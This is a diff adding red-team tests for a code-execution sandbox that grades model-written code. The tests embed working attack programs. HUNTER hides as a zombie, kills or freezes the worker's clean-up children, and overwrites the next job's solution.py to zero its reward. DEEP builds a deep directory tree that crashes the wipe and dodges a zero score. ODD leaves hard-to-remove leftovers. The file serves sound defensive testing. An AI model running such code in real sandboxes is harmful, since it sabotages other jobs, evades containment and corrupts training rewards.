@@ -1,0 +1,306 @@
+"""Red-team cases against the rlimit backend under the task definition's constraints: what
+model-written code, as a slot uid, can do to the next job on the same worker, or to the worker.
+One slot (TRIALBOX_SANDBOX_SLOTS=1), so the next job even runs as the same uid. Each test
+asserts the safe outcome; a test that fails names a break.
+
+- the hunter (HUNTER): a process of a job's uid races the worker's forked clean-up children.
+  The worker forks a child that switches to the slot uid and only then calls kill(-1); in
+  between, a process of that uid may signal it. SIGKILLed, the clean-up never happens; SIGSTOPped,
+  the worker waits for it forever. A process whose thread-group leader exited alone (SYS_exit,
+  other threads running) shows as a zombie in /proc/<pid>/stat, which `processes_of` skips, so
+  neither the kill loop nor `residue` sees it. These two race the scheduler: they need a core
+  free for the hunter (this 2-core machine under load: won in most runs, not every run);
+  tests/sandbox/test_rlimit_redteam.py shows both without the race;
+- a directory tree deeper than Python's recursion limit makes `shutil.rmtree` (3.11, recursive)
+  raise RecursionError in the worker's release and wipe;
+- odd leftovers the wipe does handle (names with a newline, non-UTF-8 bytes or a leading '-',
+  a chmod 000 directory with content, fifos, socket files, hard links, long paths, abstract
+  sockets, memfd, inotify): regression guards.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import subprocess
+from collections.abc import Iterator
+
+import pytest
+
+from tests.fargate.conftest import describe, python, request, run_jobs
+from tests.fargate.harness import Harness, Run, Service
+from tests.fargate.programs import PROBE
+from tests.sandbox.conftest import CORRECT
+from trialbox.client import Client
+from trialbox.models import Status
+
+ONE_SLOT = {"TRIALBOX_SANDBOX_SLOTS": "1"}
+SABOTAGE = "def add(a, b):\n    return 0\n"
+
+# A setsid daemon of the job's uid that hides (its leader exits alone) and hunts the worker's
+# clean-up children: a new process of its uid whose cmdline is the worker's and that still
+# ignores SIGPIPE (a Popen child about to exec a command has it back to default) is a fork that
+# will call kill(-1) as the uid. __ACTION__ "kill": SIGKILL each one, stay alive, and tamper
+# with the next job's workspace (a marker file, a wrong solution.py). "stop": SIGSTOP the first
+# one and exit: the worker's waitpid never returns. It fetches a fresh RLIMIT_CPU budget by
+# handing over to a new process every few seconds, and gives up after __LIFE__ s.
+HUNTER = r"""
+import ctypes, os, platform, signal, threading, time
+ACTION = "__ACTION__"
+HUNTERS = 1
+END = time.monotonic() + __LIFE__
+SABOTAGE = __SABOTAGE__
+SYS_EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]
+libc = ctypes.CDLL(None)
+WORK = os.getcwd()
+FIRST = os.stat(WORK).st_ino
+RUNNER = os.getppid()  # the worker itself: prlimit and setpriv exec'd in place
+RUNNER_CMD = open(f"/proc/{RUNNER}/cmdline", "rb").read()
+
+def last_pid():
+    return int(open("/proc/loadavg").read().split()[-1])
+
+def is_cleanup_child(pid):
+    try:
+        if open(f"/proc/{pid}/cmdline", "rb").read() != RUNNER_CMD:
+            return False
+        ignored = int(open(f"/proc/{pid}/status").read().split("SigIgn:")[1].split()[0], 16)
+    except (OSError, IndexError):
+        return False
+    return bool(ignored & (1 << (signal.SIGPIPE - 1)))
+
+def tamper():
+    if os.stat(WORK).st_ino == FIRST:  # still this job's workspace (or none yet)
+        return
+    marker = os.path.join(WORK, "lurker.txt")
+    if not os.path.exists(marker):
+        with open(marker, "w") as f:
+            f.write("a process of an earlier job was here\n")
+    solution = os.path.join(WORK, "solution.py")
+    if os.path.exists(solution) and open(solution).read() != SABOTAGE:
+        with open(solution, "w") as f:
+            f.write(SABOTAGE)
+
+def hunt(born):
+    mine = {os.getpid(), threading.get_native_id()}
+    ckill = libc.kill  # no exception per miss: a tight loop
+    while True:
+        if ACTION == "kill":
+            try:
+                tamper()
+            except OSError:
+                pass
+        if time.monotonic() > END:
+            os._exit(0)
+        if time.monotonic() - born > 6:  # a fresh CPU budget: the next generation
+            if os.fork() == 0:
+                start()
+            os._exit(0)
+        last = last_pid()
+        # the last pids and the next: SIGSTOP whichever is ours (forked, then switched)
+        candidates = [p for p in range(last - 2, last + 4) if p not in mine]
+        hit = 0
+        for _ in range(1000):
+            for p in candidates:
+                if ckill(p, 19) == 0:
+                    hit = p
+                    break
+            if hit:
+                break
+        if not hit:
+            continue
+        mine.add(hit)
+        if not is_cleanup_child(hit):
+            os.kill(hit, signal.SIGCONT)  # a command, a hunter: let it be
+        elif ACTION == "kill":
+            os.kill(hit, signal.SIGKILL)
+        else:
+            os._exit(0)  # it stays stopped: the worker waits for it forever
+
+def start():
+    threading.Thread(target=hunt, args=(time.monotonic(),)).start()
+    libc.syscall(SYS_EXIT, 0)  # the leader alone exits: /proc/<pid>/stat now says Z
+
+if os.fork() == 0:
+    os.setsid()
+    null = os.open("/dev/null", os.O_RDWR)
+    for fd in (0, 1, 2):
+        os.dup2(null, fd)
+    for _ in range(HUNTERS):
+        if os.fork() == 0:
+            start()
+    os._exit(0)
+time.sleep(0.3)
+print("hunter started")
+"""
+
+
+def hunter(action: str, life_s: int = 40) -> str:
+    return (
+        HUNTER.replace("__ACTION__", action)
+        .replace("__LIFE__", str(life_s))
+        .replace("__SABOTAGE__", repr(SABOTAGE))
+    )
+
+
+# The next job: waits for a hunter to act, then shows its workspace.
+LOOK = (
+    "import os, time\n"
+    "time.sleep(2)\n"
+    f"print(sorted(os.listdir('.')), open('solution.py').read() == {CORRECT!r})\n"
+)
+
+# Deeper than CPython 3.11's recursion limit (1000): in the workspace, /tmp and /dev/shm.
+DEEP = (
+    "import os\n"
+    "for top in (os.getcwd(), '/tmp', '/dev/shm'):\n"
+    "    os.chdir(top)\n"
+    "    os.mkdir(f'deep-{os.getpid()}')\n"
+    "    os.chdir(f'deep-{os.getpid()}')\n"
+    "    for _ in range(1500):\n"
+    "        os.mkdir('d')\n"
+    "        os.chdir('d')\n"
+    "    open('leaf', 'w').write('x')\n"
+    "print('deep')\n"
+)
+
+# Odd leftovers the wipe must remove anyway; the processes holding an abstract socket, a memfd
+# and an inotify watch are left running. Prints what it left.
+ODD = r"""
+import ctypes, os, signal, socket, time
+left = []
+for d in ("/tmp", "/dev/shm"):
+    names = [b"trialbox-leftover\nnewline", b"trialbox-leftover-\xff\xfe", b"-rf", b"--help"]
+    for name in names:
+        with open(os.path.join(d.encode(), name), "wb") as f:
+            f.write(b"x")
+    locked = os.path.join(d, "trialbox-leftover-000")
+    os.makedirs(os.path.join(locked, "inner"))
+    open(os.path.join(locked, "inner", "secret"), "w").write("x")
+    os.chmod(os.path.join(locked, "inner"), 0)
+    os.chmod(locked, 0)
+    os.mkfifo(os.path.join(d, "trialbox-leftover-fifo"))
+    s = socket.socket(socket.AF_UNIX)
+    s.bind(os.path.join(d, "trialbox-leftover-sock"))
+    os.link(os.path.join(d.encode(), b"-rf"), os.path.join(d, "trialbox-leftover-link"))
+    os.symlink("/etc/passwd", os.path.join(d, "trialbox-leftover-symlink"))
+    long = os.path.join(d, "trialbox-leftover-long")
+    os.mkdir(long)
+    fd = os.open(long, os.O_RDONLY)
+    for _ in range(40):  # a path far past PATH_MAX
+        os.mkdir("x" * 200, dir_fd=fd)
+        nfd = os.open("x" * 200, os.O_RDONLY, dir_fd=fd)
+        os.close(fd)
+        fd = nfd
+    os.close(fd)
+    left.append(d)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        abstract = socket.socket(socket.AF_UNIX)
+        abstract.bind("\0trialbox-leftover")
+        abstract.listen()
+        memfd = os.memfd_create("trialbox-leftover")
+        os.write(memfd, b"x")
+        libc = ctypes.CDLL(None)
+        ino = libc.inotify_init()
+        libc.inotify_add_watch(ino, b"/tmp", 0xFFF)
+        null = os.open("/dev/null", os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(null, fd)
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        time.sleep(120)
+    os._exit(0)
+time.sleep(0.2)
+print("left:", " ".join(left))
+"""
+
+ABSTRACT_PROBE = (
+    "import socket\n"
+    "s = socket.socket(socket.AF_UNIX)\n"
+    "try:\n"
+    "    s.connect('\\0trialbox-leftover')\n"
+    "    print('abstract socket still bound')\n"
+    "except OSError as e:\n"
+    "    print(type(e).__name__)\n"
+)
+
+
+def _cleanup_without_recursion(run: Run) -> None:
+    """The harness removes a container's volumes with shutil.rmtree, which a tree deeper than
+    the recursion limit breaks (RecursionError) in the test process too: rm -rf it first."""
+    subprocess.run(["rm", "-rf", "--one-file-system", str(run.directory)], check=False)
+    _ORIGINAL_CLEANUP(run)
+
+
+_ORIGINAL_CLEANUP = Run._cleanup
+
+
+@pytest.fixture
+def one_slot(harness: Harness) -> Iterator[Service]:
+    """A fresh one-slot worker for each case: a case may wedge or dirty it."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(Run, "_cleanup", _cleanup_without_recursion)
+        running = harness.service(ONE_SLOT)
+        try:
+            yield running
+        finally:
+            with contextlib.suppress(AssertionError):  # a wedged worker is killed, then this
+                running.stop()
+
+
+def test_a_hidden_process_cannot_survive_into_the_next_job(
+    client: Client, one_slot: Service
+) -> None:
+    """BREAK today: the hunter kills every clean-up child of its uid and hides from
+    `processes_of`; the wipe and `residue` report nothing, the worker takes the next job, and
+    the hunter rewrites that job's solution.py (reward 0 for a correct sample) and leaves a
+    file in its workspace."""
+    (left,) = run_jobs(client, one_slot, [request(commands=[python(hunter("kill"))])])
+    assert left.status == Status.SUCCEEDED, describe(left)
+    nxt = request(files={"solution.py": CORRECT}, commands=[python(LOOK)], grade=True)
+    (victim,) = run_jobs(client, one_slot, [nxt])
+    assert victim.status == Status.SUCCEEDED, describe(victim)
+    assert victim.commands[0].stdout == "['solution.py'] True\n", describe(victim)
+    assert victim.reward == 1.0, describe(victim)
+
+
+def test_a_stopped_cleanup_child_cannot_wedge_the_worker(client: Client, one_slot: Service) -> None:
+    """BREAK today: the hunter SIGSTOPs the worker's kill(-1) child after its uid switch; the
+    worker waits for it forever (heartbeats still flowing), takes no further job, and its own
+    job gets no result."""
+    (left,) = run_jobs(client, one_slot, [request(commands=[python(hunter("stop"))])], timeout=45)
+    assert left.status == Status.SUCCEEDED, describe(left)
+    (after,) = run_jobs(client, one_slot, [request(commands=[python("print('ok')")])], timeout=45)
+    assert after.status == Status.SUCCEEDED and after.commands[0].stdout == "ok\n"
+
+
+def test_a_deep_tree_is_wiped_without_a_sandbox_error(client: Client, one_slot: Service) -> None:
+    """BREAK today: shutil.rmtree (Python 3.11) recurses once per level, so the release of a
+    workspace 1500 levels deep raises RecursionError: the job that made it gets
+    `sandbox_error` (no reward: a way out of a 0 for the policy), the slot stays dirty and the
+    worker must recycle."""
+    (deep,) = run_jobs(client, one_slot, [request(commands=[python(DEEP)])])
+    assert deep.status == Status.SUCCEEDED, describe(deep)
+    assert deep.commands[0].stdout == "deep\n"
+    (probe,) = run_jobs(client, one_slot, [request(commands=[python(PROBE)])])
+    assert probe.commands[0].stdout == "nothing found\n", describe(probe)
+    ran = [one_slot.run_at(r.timings.started_at or 0) for r in (deep, probe)]
+    assert ran[0] == ran[1], (ran, one_slot.logs())  # wiped, not recycled
+
+
+def test_odd_leftovers_are_wiped(client: Client, one_slot: Service) -> None:
+    """Holds today: odd names, a 000 directory, fifos, sockets, links, long paths, and the
+    processes holding an abstract socket, a memfd and an inotify watch are all gone."""
+    (left,) = run_jobs(client, one_slot, [request(commands=[python(ODD)])])
+    assert left.status == Status.SUCCEEDED, describe(left)
+    assert left.commands[0].stdout == "left: /tmp /dev/shm\n", describe(left)
+    (probe, abstract) = run_jobs(
+        client,
+        one_slot,
+        [request(commands=[python(PROBE)]), request(commands=[python(ABSTRACT_PROBE)])],
+    )
+    assert probe.commands[0].stdout == "nothing found\n", describe(probe)
+    assert abstract.commands[0].stdout == "ConnectionRefusedError\n", describe(abstract)
+    ran = {one_slot.run_at(r.timings.started_at or 0) for r in (left, probe, abstract)}
+    assert len(ran) == 1, (ran, one_slot.logs())  # wiped, not recycled
+    assert one_slot.failures() == []
